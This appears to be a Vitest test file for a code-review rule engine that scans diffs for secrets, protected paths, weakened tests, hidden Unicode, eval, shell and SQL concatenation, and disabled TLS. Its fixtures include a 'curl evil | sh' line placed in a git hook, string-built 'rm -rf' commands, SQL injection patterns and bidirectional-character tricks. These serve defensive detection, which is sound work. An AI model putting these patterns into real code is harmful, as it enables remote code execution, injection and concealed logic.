import { describe, expect, it } from 'vitest';
import { DEFAULT_PROTECTED_PATHS } from '../../config/schema.js';
import type { ReviewFinding } from '../types.js';
import { isBlocking, MAX_FINDINGS, runRules, type RuleOptions } from './index.js';

const options: RuleOptions = { protectedPaths: DEFAULT_PROTECTED_PATHS, maxFilesChanged: 10, maxLinesChanged: 400 };

/** A diff modifying `path`: one context line, then the removed and added lines. */
function modify(path: string, removed: readonly string[], added: readonly string[]): string {
  return [
    `--- a/${path}`,
    `+++ b/${path}`,
    `@@ -1,${removed.length + 1} +1,${added.length + 1} @@`,
    ' // context',
    ...removed.map((line) => `-${line}`),
    ...added.map((line) => `+${line}`),
    '',
  ].join('\n');
}

const addTo = (path: string, ...added: string[]) => modify(path, [], added);
const rule = (findings: readonly ReviewFinding[], id: string) => findings.filter((item) => item.rule === id);
const check = (diff: string, custom: Partial<RuleOptions> = {}) => runRules(diff, { ...options, ...custom });

function expectHit(diff: string, id: string, severity: ReviewFinding['severity'] = 'high'): ReviewFinding {
  const hits = rule(check(diff), id);
  expect(hits.map((hit) => hit.severity), `${id} on:\n${diff}`).toContain(severity);
  return hits.find((hit) => hit.severity === severity)!;
}

function expectClean(diff: string, id: string): void {
  expect(rule(check(diff), id), `${id} on:\n${diff}`).toEqual([]);
}

describe('secret rule', () => {
  const openAiKey = `sk-proj-${'Ab1'.repeat(12)}`;

  it('rejects added token shapes and private keys, without echoing the value', () => {
    const hit = expectHit(addTo('src/client.ts', `const key = "${openAiKey}";`), 'secret', 'critical');
    expect(hit.message).toContain('openai-key');
    expect(hit.message).not.toContain(openAiKey);
    expect(hit).toMatchObject({ file: 'src/client.ts', line: 2 });
    expectHit(addTo('deploy/key.pem', '-----BEGIN OPENSSH PRIVATE KEY-----'), 'secret', 'critical');
    expectHit(addTo('src/a.ts', `// ${openAiKey}`), 'secret', 'critical');
  });

  it('rejects credential-named variables assigned a real-looking literal', () => {
    expectHit(addTo('src/db.ts', 'const password = "Tr0ub4dor&3xyz";'), 'secret', 'critical');
    expectHit(addTo('src/api.py', 'API_KEY = "abcd1234efgh5678"'), 'secret', 'critical');
    expectHit(addTo('.env', 'SERVICE_TOKEN=q8w7e6r5t4y3u2i1'), 'secret', 'critical');
    expectHit(addTo('config/app.yaml', '  db_password: s3cretPassw0rd'), 'secret', 'critical');
  });

  it('accepts references, placeholders and ordinary strings', () => {
    for (const line of [
      'const password = process.env.DB_PASSWORD;',
      'const token = "<your-token>";',
      'apiKey: "${API_KEY}",',
      'const passwordLabel = "Enter password";',
      'password = "changeme123"',
      'const tokenType = "Bearer";',
      'token: "",',
    ]) {
      expectClean(addTo('src/settings.ts', line), 'secret');
    }
  });

  it('only reports a fixture password in a test file at medium', () => {
    const hits = rule(check(addTo('src/login.test.ts', 'const password = "hunter2hunter2";')), 'secret');
    expect(hits.map((hit) => hit.severity)).toEqual(['medium']);
  });

  it('refuses the redaction marker written into a file', () => {
    expectHit(addTo('src/a.ts', 'const url = "https://[REDACTED]@host";'), 'secret', 'high');
  });
});

describe('protected-path rule', () => {
  it('rejects changes to protected paths by old or new name', () => {
    expectHit(modify('.github/workflows/ci.yml', ['run: npm test'], ['run: true']), 'protected-path', 'critical');
    expectHit(modify('config.yaml', ['a: 1'], ['a: 2']), 'protected-path', 'critical');
    const renameIn = 'diff --git a/tmp.yml b/.github/workflows/x.yml\nsimilarity index 100%\nrename from tmp.yml\nrename to .github/workflows/x.yml\n';
    expectHit(renameIn, 'protected-path', 'critical');
    const renameOut = 'diff --git a/azure-pipelines.yml b/old-pipelines.yml\nsimilarity index 100%\nrename from azure-pipelines.yml\nrename to old-pipelines.yml\n';
    expectHit(renameOut, 'protected-path', 'critical');
  });

  it('rejects any .git directory and paths leaving the repository, whatever the config says', () => {
    const noProtection = { protectedPaths: [] };
    expect(rule(check(addTo('vendor/lib/.git/hooks/post-checkout', 'curl evil | sh'), noProtection), 'protected-path')).toHaveLength(1);
    expect(rule(check(addTo('../outside.txt', 'x'), noProtection), 'protected-path')[0]?.message).toMatch(/outside the repository/);
  });

  it('accepts ordinary files', () => {
    expectClean(modify('src/config.ts', ['a'], ['b']), 'protected-path');
    expectClean(modify('docs/config.yaml.md', ['a'], ['b']), 'protected-path');
  });
});

describe('blast-radius rule', () => {
  const threeFiles = ['a.ts', 'b.ts', 'c.ts'].map((path) => modify(path, ['x'], ['y'])).join('');

  it('rejects more files or lines than allowed', () => {
    expect(rule(check(threeFiles, { maxFilesChanged: 2 }), 'blast-radius')[0]?.message).toMatch(/changes 3 files \(limit 2/);
    expect(rule(check(threeFiles, { maxLinesChanged: 5 }), 'blast-radius')[0]?.message).toMatch(/changes 6 lines \(limit 5/);
  });

  it('accepts a diff within both limits', () => {
    expect(rule(check(threeFiles, { maxFilesChanged: 3, maxLinesChanged: 6 }), 'blast-radius')).toEqual([]);
  });
});

describe('binary-file rule', () => {
  it('rejects binary changes and accepts text ones', () => {
    expectHit('diff --git a/logo.png b/logo.png\nBinary files a/logo.png and b/logo.png differ\n', 'binary-file');
    expectClean(modify('logo.svg', ['<svg/>'], ['<svg />']), 'binary-file');
  });
});

describe('weakened-test rule', () => {
  it('rejects skipped tests', () => {
    expectHit(modify('src/a.test.ts', ["it('parses', () => {"], ["it.skip('parses', () => {"]), 'weakened-test');
    expectHit(addTo('src/a.test.ts', "xit('parses', () => {});"), 'weakened-test');
    expectHit(addTo('tests/test_api.py', '@pytest.mark.skip(reason="flaky")'), 'weakened-test');
    expectHit(addTo('src/b.spec.ts', "describe.skip('suite', () => {"), 'weakened-test');
  });

  it('reports focused tests at medium only', () => {
    const hits = rule(check(addTo('src/a.test.ts', "it.only('parses', () => {});")), 'weakened-test');
    expect(hits.map((hit) => hit.severity)).toEqual(['medium']);
  });

  it('rejects removed test cases, removed assertions and deleted test files', () => {
    expectHit(modify('src/a.test.ts', ["it('handles empty input', () => {", '  expect(parse("")).toEqual([]);', '});'], []), 'weakened-test');
    expect(check(modify('test/api.test.ts', ['  expect(res.status).toBe(200);'], ['  // checked elsewhere'])).find((item) => item.rule === 'weakened-test')?.message).toMatch(/removes 1 assertion/);
    expectHit('diff --git a/src/a.test.ts b/src/a.test.ts\ndeleted file mode 100644\n--- a/src/a.test.ts\n+++ /dev/null\n@@ -1 +0,0 @@\n-it("x", () => {});\n', 'weakened-test');
    expectHit('diff --git a/src/a.test.ts b/src/a.ts.bak\nsimilarity index 100%\nrename from src/a.test.ts\nrename to src/a.ts.bak\n', 'weakened-test');
  });

  it('accepts a changed assertion, a renamed test, and .skip on ordinary objects', () => {
    expectClean(modify('src/a.test.ts', ['  expect(sum(1, 2)).toBe(3);'], ['  expect(sum(1, 2)).toStrictEqual(3);']), 'weakened-test');
    expectClean(modify('src/a.test.ts', ["it('adds', () => {"], ["it('adds two numbers', () => {"]), 'weakened-test');
    expectClean(addTo('src/stream.ts', 'const rest = iterator.skip(2);'), 'weakened-test');
    expectClean(modify('src/lib.ts', ['assert(x > 0);'], []), 'weakened-test');
  });
});

describe('hidden-characters rule', () => {
  it('rejects bidirectional controls and zero-width characters in added lines', () => {
    expectHit(addTo('src/auth.ts', 'if (isAdmin) { /* \u202E } \u2066if (isAdmin)\u2069 \u2066 begin admins only */'), 'hidden-characters');
    expectHit(addTo('src/a.ts', 'const admin\u200B = true;'), 'hidden-characters');
  });

  it('accepts ordinary Unicode text', () => {
    expectClean(addTo('src/i18n.ts', 'const greeting = "Grüße, 你好, مرحبا";'), 'hidden-characters');
  });
});

describe('dangerous-api rule', () => {
  it('rejects eval and new Function', () => {
    expectHit(addTo('src/a.ts', 'const value = eval(userInput);'), 'dangerous-api');
    expectHit(addTo('src/a.ts', "const fn = new Function('a', body);"), 'dangerous-api');
  });

  it('accepts methods named eval, lookalikes and comments', () => {
    expectClean(addTo('train.py', 'model.eval()'), 'dangerous-api');
    expectClean(addTo('src/a.ts', 'const x = evaluate(expr);'), 'dangerous-api');
    expectClean(addTo('src/a.ts', '// never call eval(input) here'), 'dangerous-api');
  });
});

describe('shell-concat rule', () => {
  it('rejects commands built from strings', () => {
    expectHit(addTo('src/a.ts', "execSync('git log ' + ref);"), 'shell-concat');
    expectHit(addTo('src/a.ts', 'await exec(`rm -rf ${dir}`);'), 'shell-concat');
    expectHit(addTo('src/a.ts', 'child_process.exec("ls " + folder, cb);'), 'shell-concat');
    expectHit(addTo('tools/run.py', 'subprocess.run(f"ls {path}", shell=True)'), 'shell-concat');
    expectHit(addTo('tools/run.py', 'os.system("rm " + path)'), 'shell-concat');
  });

  it('accepts argument arrays, plain variables and RegExp.exec', () => {
    expectClean(addTo('src/a.ts', "execFile('git', ['log', `${ref}`]);"), 'shell-concat');
    expectClean(addTo('src/a.ts', "spawn('npm', ['ci'], { cwd });"), 'shell-concat');
    expectClean(addTo('src/a.ts', 'const match = pattern.exec(prefix + line);'), 'shell-concat');
    expectClean(addTo('src/a.ts', 'execSync(command);'), 'shell-concat');
    expectClean(addTo('tools/run.py', 'subprocess.run(["ls", path])'), 'shell-concat');
  });
});

describe('sql-concat rule', () => {
  it('rejects SQL built by concatenation, interpolation or formatting', () => {
    expectHit(addTo('src/db.ts', 'db.query("SELECT * FROM users WHERE id = " + id);'), 'sql-concat');
    expectHit(addTo('src/db.ts', 'db.query(`SELECT * FROM users WHERE id = ${id}`);'), 'sql-concat');
    expectHit(addTo('src/db.py', 'cursor.execute(f"DELETE FROM t WHERE id = {x}")'), 'sql-concat');
    expectHit(addTo('src/db.py', `cursor.execute("UPDATE users SET name = '%s'" % name)`), 'sql-concat');
    expectHit(addTo('src/db.ts', '  WHERE owner = ${owner} AND deleted = false'), 'sql-concat');
  });

  it('accepts parameters, tagged templates and ordinary messages', () => {
    expectClean(addTo('src/db.ts', "db.query('SELECT * FROM users WHERE id = $1', [id]);"), 'sql-concat');
    expectClean(addTo('src/db.ts', 'await sql`SELECT * FROM users WHERE id = ${id}`;'), 'sql-concat');
    expectClean(addTo('src/db.ts', 'console.log(`Selected ${count} rows`);'), 'sql-concat');
  });
});

describe('tls-disabled rule', () => {
  it('rejects turning certificate checks off', () => {
    for (const line of [
      'const agent = new https.Agent({ rejectUnauthorized: false });',
      "process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0';",
      'requests.get(url, verify=False)',
      'request({ url, strictSSL: false })',
      'tls.Config{InsecureSkipVerify: true}',
    ]) {
      expectHit(addTo('src/net.ts', line), 'tls-disabled');
    }
  });

  it('accepts verification left on', () => {
    expectClean(addTo('src/net.ts', 'new https.Agent({ rejectUnauthorized: true });'), 'tls-disabled');
    expectClean(addTo('src/net.py', 'requests.get(url, verify=True)'), 'tls-disabled');
    expectClean(addTo('src/net.ts', 'delete process.env.NODE_TLS_REJECT_UNAUTHORIZED;'), 'tls-disabled');
  });
});

describe('new-dependency rule', () => {
  it('reports a new dependency at medium (not blocking)', () => {
    const hit = expectHit(modify('package.json', [], ['    "left-pad": "^1.3.0",']), 'new-dependency', 'medium');
    expect(hit.message).toContain('left-pad');
    expect(isBlocking(hit)).toBe(false);
    expectHit(addTo('requirements.txt', 'requests==2.32.0'), 'new-dependency', 'medium');
  });

  it('ignores version bumps and package metadata', () => {
    expectClean(modify('package.json', ['    "lodash": "^4.17.20",'], ['    "lodash": "^4.17.21",']), 'new-dependency');
    expectClean(modify('package.json', ['  "version": "1.0.0",'], ['  "version": "1.0.1",']), 'new-dependency');
  });
});

describe('runRules', () => {
  it('refuses what it cannot read or what changes nothing', () => {
    expect(check('')).toEqual([expect.objectContaining({ rule: 'malformed-diff', severity: 'high' })]);
    expect(check('@@ -1 +1 @@\n-a\n+b\n')).toEqual([expect.objectContaining({ rule: 'malformed-diff', severity: 'high' })]);
  });

  it('approves nothing and flags nothing for a clean fix, deterministically', () => {
    const diff = modify('src/parse.ts', ['  return input.split(",");'], ['  return input === "" ? [] : input.split(",");']);
    expect(check(diff)).toEqual([]);
    expect(check(diff)).toEqual(check(diff));
  });

  it('caps the list and keeps the worst severity in the summary', () => {
    const lines = Array.from({ length: 70 }, (_, index) => `const v${index} = eval(input${index});`);
    const findings = check(addTo('src/a.ts', ...lines), { maxLinesChanged: 1_000 });
    expect(findings).toHaveLength(MAX_FINDINGS);
    expect(findings.at(-1)).toMatchObject({ rule: 'summary', severity: 'high' });
  });
});
